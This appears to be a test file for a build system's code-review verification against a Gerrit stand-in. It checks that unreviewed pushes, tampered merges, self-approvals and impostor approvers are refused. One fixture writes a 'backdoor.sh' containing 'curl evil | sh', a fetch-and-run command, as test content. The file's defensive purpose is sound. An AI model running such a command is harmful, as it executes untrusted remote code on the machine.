/**
 * The builder's own review check (trusted-builder/verify/review.ts) against the Gerrit stand-in:
 * real git (the builder's own mirror, fetched by SourceVerifier), real REST with the builder's
 * read-only account. Each history a hostile or careless party could leave on a protected branch is
 * refused with a reason; a reviewed one yields the evidence the provenance carries.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ProjectReview, PromotedProject } from '../../trusted-builder/policy/promotion.js';
import { GerritReader } from '../../trusted-builder/verify/gerrit-reader.js';
import { verifyReview, type MergedChange, type ReviewReader } from '../../trusted-builder/verify/review.js';
import { SourceVerifier } from '../../trusted-builder/verify/source.js';
import { BUILDER_ACCOUNT, CI_ACCOUNT, startGerrit, type GerritRig } from '../support/gerrit-rig.js';

const CR2 = [{ label: 'Code-Review', value: 2 }];

describe('verifyReview (Gerrit stand-in, real git)', () => {
  const root = mkdtempSync(join(tmpdir(), 'airlock-review-'));
  let rig: GerritRig;
  let reader: GerritReader;
  const verifier = new SourceVerifier(join(root, 'mirrors'));
  let seq = 0;

  beforeAll(async () => {
    rig = await startGerrit();
    reader = new GerritReader({ url: rig.gerrit.url, credentials: { username: BUILDER_ACCOUNT, password: rig.passwords[BUILDER_ACCOUNT]! } });
  });
  afterAll(async () => {
    await rig?.gerrit.close();
    rmSync(root, { recursive: true, force: true });
  });

  /** A fresh project in the stand-in, and its policy entry. */
  const project = (): { name: string; initial: string; policy: PromotedProject } => {
    const name = `team/p${++seq}`;
    const initial = rig.gerrit.createProject(name, { 'README.md': 'hello\n' });
    return { name, initial, policy: { name, url: rig.gerrit.gitUrl(name), protectedBranches: ['master'], image: 'team/app', review: { system: 'gerrit', require: CR2, selfApproval: false } } };
  };
  /** Approved by `by`, verified and submitted by the CI's account, as the gate would. */
  const merge = (n: number, by = 'grace'): void => {
    rig.gerrit.review(n, by, { labels: { 'Code-Review': 2 } });
    rig.gerrit.review(n, CI_ACCOUNT, { labels: { Verified: 2 } });
    rig.gerrit.submitAs(n, CI_ACCOUNT);
  };
  const check = async (p: PromotedProject, base: string | undefined, review: Partial<ProjectReview> = {}) => {
    const v = await verifier.verify(p, rig.gerrit.branchTip(p.name));
    expect(v.ok).toBe(true);
    const policy = { ...(p.review as ProjectReview), ...review };
    return verifyReview({ gitDir: verifier.mirrorOf(p), review: policy, reviewProject: p.name, branch: 'master', branches: p.protectedBranches, commit: rig.gerrit.branchTip(p.name), base, reader });
  };
  const gitIn = (name: string, args: string[]): string => execFileSync('git', ['--git-dir', rig.gerrit.gitUrl(name), ...args], { encoding: 'utf8' }).trim();

  it('accounts for fast-forwards and the review system\'s merge commits, and names who approved what', async () => {
    const p = project();
    const g = rig.gerrit;
    const a = g.upload({ project: p.name, owner: 'ada', subject: 'A', files: { 'a.txt': 'a\n' } });
    const b = g.upload({ project: p.name, owner: 'mallory', subject: 'B', files: { 'b.txt': 'b\n' } }); // also on the initial commit
    merge(a.number);
    merge(b.number, 'linus'); // not a fast-forward any more: Gerrit merges
    const tip = g.branchTip(p.name);
    expect(gitIn(p.name, ['rev-parse', `${tip}^2`])).toBe(b.sha);
    const r = await check(p.policy, p.initial);
    expect(r.ok, JSON.stringify(r)).toBe(true);
    if (!r.ok) return;
    expect(r.evidence).toMatchObject({ system: g.url, project: p.name, branch: 'master', from: p.initial, merges: [{ commit: tip, change: b.number }] });
    expect(r.evidence.changes).toEqual([
      expect.objectContaining({ number: a.number, patchset: 1, revision: a.sha, owner: 'ada', uploader: 'ada', submitter: CI_ACCOUNT, approvals: [expect.objectContaining({ label: 'Code-Review', value: 2, by: 'grace' })] }),
      expect.objectContaining({ number: b.number, patchset: 1, revision: b.sha, owner: 'mallory', submitter: CI_ACCOUNT, approvals: [expect.objectContaining({ label: 'Code-Review', value: 2, by: 'linus' })] }),
    ]);
    // Walking from the last promoted commit instead: only what came after it.
    const since = await check(p.policy, a.sha);
    expect(since.ok && since.evidence.changes.map((c) => c.number)).toEqual([b.number]);
  });

  it('refuses a commit pushed past review, naming it', async () => {
    const p = project();
    const a = rig.gerrit.upload({ project: p.name, owner: 'ada', subject: 'A', files: { 'a.txt': 'a\n' } });
    merge(a.number);
    const pushed = rig.gerrit.directPush(p.name, 'master', { 'backdoor.sh': 'curl evil | sh\n' }, { message: 'innocent\n' });
    const r = await check(p.policy, p.initial);
    expect(r).toEqual({ ok: false, reason: `commit ${pushed.slice(0, 12)} on master is not the result of a reviewed change (no merged change of the review system; pushed past review?)` });
  });

  it('refuses an "evil merge": a merge of a reviewed change that carries content of its own', async () => {
    const p = project();
    const g = rig.gerrit;
    const a = g.upload({ project: p.name, owner: 'ada', subject: 'A', files: { 'a.txt': 'a\n' } });
    const b = g.upload({ project: p.name, owner: 'ada', subject: 'B', files: { 'b.txt': 'b\n' } });
    merge(a.number);
    // B is approved but not merged by Gerrit; someone writes a merge of it with something extra.
    g.review(b.number, 'grace', { labels: { 'Code-Review': 2 } });
    const evil = g.writeCommit(p.name, { 'b.txt': 'b\n', 'extra.sh': 'exfiltrate\n' }, { parents: [a.sha, b.sha], message: `Merge "B"\n` });
    gitIn(p.name, ['update-ref', 'refs/heads/master', evil]);
    const r = await check(p.policy, p.initial);
    expect(r.ok).toBe(false);
    // B was never merged by the review system, so neither the merge nor B's commit is accounted for.
    expect(!r.ok && r.reason).toBe(`commit ${evil.slice(0, 12)} on master is not the result of a reviewed change (a merge of no reviewed change; pushed past review?)`);
  });

  it('refuses a merge commit whose tree is not the merge of its parents, even when both parents are reviewed', async () => {
    const p = project();
    const g = rig.gerrit;
    const a = g.upload({ project: p.name, owner: 'ada', subject: 'A', files: { 'a.txt': 'a\n' } });
    const b = g.upload({ project: p.name, owner: 'ada', subject: 'B', files: { 'b.txt': 'b\n' } });
    merge(a.number);
    merge(b.number);
    const honest = g.branchTip(p.name);
    // The same parents as Gerrit's merge, one file more: rewrite the tip.
    const evil = g.writeCommit(p.name, { 'extra.sh': 'exfiltrate\n' }, { parents: [a.sha, b.sha], message: `Merge "B"\n` });
    expect(evil).not.toBe(honest);
    gitIn(p.name, ['update-ref', 'refs/heads/master', evil]);
    const r = await check(p.policy, p.initial);
    expect(r).toEqual({ ok: false, reason: `merge commit ${evil.slice(0, 12)} on master carries changes of its own beyond merging change ${b.number} (its tree is not the merge of its parents)` });
  });

  it('refuses an outdated patch set that reached the branch', async () => {
    const p = project();
    const g = rig.gerrit;
    const x1 = g.upload({ project: p.name, owner: 'ada', subject: 'X', files: { 'x.txt': 'first try\n' } });
    g.upload({ project: p.name, owner: 'ada', change: x1.number, files: { 'x.txt': 'second try\n' } });
    gitIn(p.name, ['update-ref', 'refs/heads/master', x1.sha]);
    const r = await check(p.policy, p.initial);
    expect(r.ok).toBe(false);
    expect(!r.ok && r.reason).toContain(`commit ${x1.sha.slice(0, 12)} on master is not the result of a reviewed change`);
  });

  it('refuses a self-approved change, unless the policy allows it', async () => {
    const p = project();
    const g = rig.gerrit;
    const own = g.upload({ project: p.name, owner: 'grace', subject: 'my own', files: { 'own.txt': 'mine\n' } });
    merge(own.number, 'grace'); // Gerrit's rules allow it
    const r = await check(p.policy, p.initial);
    expect(r).toEqual({ ok: false, reason: `change ${own.number} ("my own") merged without Code-Review +2 from a reviewer: grace +2 (the change's owner: self-approval is not accepted)` });
    expect((await check(p.policy, p.initial, { selfApproval: true })).ok).toBe(true);
  });

  it('counts only the approvers the policy names, by account or by group', async () => {
    const p = project();
    const a = rig.gerrit.upload({ project: p.name, owner: 'ada', subject: 'A', files: { 'a.txt': 'a\n' } });
    merge(a.number, 'grace');
    const onlyLinus = await check(p.policy, p.initial, { require: [{ label: 'Code-Review', value: 2, by: { accounts: ['linus', 'torvalds@example.org'], groups: [] } }] });
    expect(onlyLinus).toEqual({ ok: false, reason: `change ${a.number} ("A") merged without Code-Review +2 from linus, torvalds@example.org: grace +2 (not among the allowed approvers)` });
    expect((await check(p.policy, p.initial, { require: [{ label: 'Code-Review', value: 2, by: { accounts: [], groups: ['core'] } }] })).ok).toBe(true);
    expect((await check(p.policy, p.initial, { require: [{ label: 'Code-Review', value: 2, by: { accounts: ['grace@example.org'], groups: [] } }] })).ok).toBe(true);
    // A second requirement the change does not meet.
    const verifiedByLinus = await check(p.policy, p.initial, { require: [...CR2, { label: 'Verified', value: 2, by: { accounts: ['linus'], groups: [] } }] });
    expect(!verifiedByLinus.ok && verifiedByLinus.reason).toContain('Verified +2 from linus: airlock-ci +2 (not among the allowed approvers)');
  });

  it('does not count a change merged on another branch (a sandbox): its review was held to other rules', async () => {
    const p = project();
    const g = rig.gerrit;
    gitIn(p.name, ['update-ref', 'refs/heads/sandbox', p.initial]);
    const s1 = g.upload({ project: p.name, branch: 'sandbox', owner: 'mallory', subject: 'try things', files: { 'backdoor.sh': 'evil\n' } });
    merge(s1.number);
    // Gerrit lets a change on master bring in what is already on another branch (an implicit merge).
    gitIn(p.name, ['update-ref', 'refs/heads/master', s1.sha]);
    const r = await check(p.policy, p.initial);
    expect(r).toEqual({ ok: false, reason: `commit ${s1.sha.slice(0, 12)} on master is change ${s1.number}, merged on branch sandbox, which is not a protected branch of the project: its review was held to another branch's rules` });
    // Listed as protected, the same branch's changes count (a stable branch merged into master).
    expect((await check({ ...p.policy, protectedBranches: ['master', 'sandbox'] }, p.initial)).ok).toBe(true);
  });

  it('refuses an approval from someone who uploaded an earlier patch set of the change', async () => {
    const p = project();
    const g = rig.gerrit;
    const c = g.upload({ project: p.name, owner: 'ada', subject: 'A', files: { 'a.txt': 'a\n' } });
    g.upload({ project: p.name, owner: 'linus', change: c.number, files: { 'a.txt': 'a\n', 'evil.sh': 'x\n' } }); // linus's own content
    g.review(c.number, 'linus', { labels: { 'Code-Review': 2 } });
    const ps3 = g.upload({ project: p.name, owner: 'ada', change: c.number }); // unchanged: the +2 carries over
    expect(['NO_CHANGE', 'TRIVIAL_REBASE']).toContain(ps3.kind);
    g.review(c.number, CI_ACCOUNT, { labels: { Verified: 2 } });
    g.submitAs(c.number, CI_ACCOUNT);
    const r = await check(p.policy, p.initial);
    expect(r).toEqual({ ok: false, reason: `change ${c.number} ("A") merged without Code-Review +2 from a reviewer: linus +2 (an uploader of one of its patch sets: self-approval is not accepted)` });
  });

  it('has nothing to check when the branch has not moved, and refuses a history too long to walk', async () => {
    const p = project();
    const same = await check(p.policy, p.initial);
    expect(same).toMatchObject({ ok: true, evidence: { changes: [], merges: [] } });
    const noBase = await check(p.policy, undefined);
    expect(noBase.ok).toBe(false); // the initial commit itself came from no change
  });
});

describe('verifyReview against hostile review records (a reader double)', () => {
  const root = mkdtempSync(join(tmpdir(), 'airlock-review-fake-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const git = (args: string[], input?: string) => execFileSync('git', ['--git-dir', root, ...args], { encoding: 'utf8', input, env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } }).trim();
  git(['init', '--bare', '-q', root]);
  const tree = git(['mktree'], '');
  const c0 = git(['commit-tree', tree, '-m', 'root']);
  const c1 = git(['commit-tree', tree, '-p', c0, '-m', 'one']);
  const acct = (n: string) => ({ names: [n], display: n });
  const change = (votes: MergedChange['votes']): MergedChange => ({ number: 7, project: 'p', branch: 'master', patchset: 1, revision: c1, owner: acct('ada'), uploaders: [], authorEmails: ['ada@example.org'], votes });
  const ids: Record<string, number> = { linus: 1003, 'linus@example.org': 1003 };
  const reader = (c: MergedChange): ReviewReader => ({
    url: 'https://review.example.org',
    mergedChanges: async () => new Map([[c.revision, c]]),
    accountId: async (n) => ids[n],
    groupMembers: async (g) => new Set(g === 'core' ? [1003] : []),
  });
  const run = (c: MergedChange, require: ProjectReview['require'] = CR2) =>
    verifyReview({ gitDir: root, review: { system: 'g', require, selfApproval: false }, reviewProject: 'p', branch: 'master', branches: ['master'], commit: c1, base: c0, reader: reader(c) });

  it('a veto on the label refuses, whatever else was given', async () => {
    const r = await run(change([
      { label: 'Code-Review', value: 2, by: acct('grace') },
      { label: 'Code-Review', value: -2, by: acct('linus') },
    ]));
    expect(r).toEqual({ ok: false, reason: 'change 7 merged without Code-Review +2: it carries a veto (Code-Review -2 from linus)' });
  });

  it('a +1 is not a +2, and no vote at all says so', async () => {
    expect(await run(change([{ label: 'Code-Review', value: 1, by: acct('grace') }]))).toEqual({ ok: false, reason: 'change 7 merged without Code-Review +2 from a reviewer: no such vote' });
  });

  it('an account named like an approver is not that approver: allowed approvers are matched by account id', async () => {
    // Gerrit usernames may contain "@": an impostor whose username is linus's e-mail.
    const impostor = { id: 1066, names: ['linus@example.org'], display: 'linus@example.org' };
    const c = change([{ label: 'Code-Review', value: 2, by: impostor }]);
    expect((await run(c, [{ label: 'Code-Review', value: 2, by: { accounts: ['linus@example.org'], groups: [] } }])).ok).toBe(false);
    expect((await run(c, [{ label: 'Code-Review', value: 2, by: { accounts: [], groups: ['core'] } }])).ok).toBe(false);
    const real = change([{ label: 'Code-Review', value: 2, by: { id: 1003, names: ['linus', 'linus@example.org'], display: 'linus' } }]);
    const ok = await run(real, [{ label: 'Code-Review', value: 2, by: { accounts: ['linus@example.org'], groups: [] } }]);
    expect(ok.ok && ok.evidence.changes[0]!.approvals).toEqual([{ label: 'Code-Review', value: 2, by: 'linus', account: 1003 }]);
  });

  it('the author of the merged commit does not approve it either', async () => {
    const r = await run(change([{ label: 'Code-Review', value: 2, by: { id: 5, names: ['ada2', 'ada@example.org'], display: 'ada2' } }]));
    expect(r).toEqual({ ok: false, reason: 'change 7 merged without Code-Review +2 from a reviewer: ada2 +2 (the author or committer of its merged commit: self-approval is not accepted)' });
  });

  it('the same account under another name is still the owner (matched by account id)', async () => {
    const c = { ...change([{ label: 'Code-Review', value: 2, by: { id: 5, names: ['ada2'], display: 'ada2' } }]), owner: { id: 5, names: ['ada'], display: 'ada' } };
    expect((await run(c)).ok).toBe(false);
  });
});
